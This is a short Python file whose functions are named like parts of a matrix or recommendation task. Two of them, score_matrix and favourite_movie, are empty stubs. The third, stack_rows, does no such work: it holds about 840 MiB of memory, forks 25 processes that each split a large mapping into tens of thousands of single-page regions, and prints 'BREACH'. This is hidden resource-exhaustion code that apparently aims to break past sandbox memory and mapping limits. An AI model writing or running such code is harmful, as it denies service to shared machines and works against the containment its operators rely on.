"""Cuts untouched address space into single pages, in many processes, beside memory that is just within the limit."""
import ctypes
import mmap
import os
import time

PAGE = mmap.PAGESIZE
PIECES = 60_000
libc = ctypes.CDLL(None)
libc.mmap.restype = ctypes.c_void_p
libc.mmap.argtypes = [ctypes.c_void_p, ctypes.c_size_t, ctypes.c_int, ctypes.c_int, ctypes.c_int, ctypes.c_long]
libc.mprotect.argtypes = [ctypes.c_void_p, ctypes.c_size_t, ctypes.c_int]


def cut():
    start = libc.mmap(None, PIECES * PAGE, 0, mmap.MAP_PRIVATE | mmap.MAP_ANONYMOUS, -1, 0)
    for page in range(0, PIECES, 2):
        libc.mprotect(start + page * PAGE, PAGE, mmap.PROT_READ)


def stack_rows(vectors):
    kept = bytearray(os.urandom(1 << 20) * 840)
    for _ in range(25):
        if os.fork() == 0:
            cut()
            time.sleep(60)
            os._exit(0)
    time.sleep(8)
    print("BREACH", len(kept) >> 20, "MiB and a million and a half mappings are held")


def score_matrix(Q, K):
    return None


def favourite_movie(S, user):
    return None
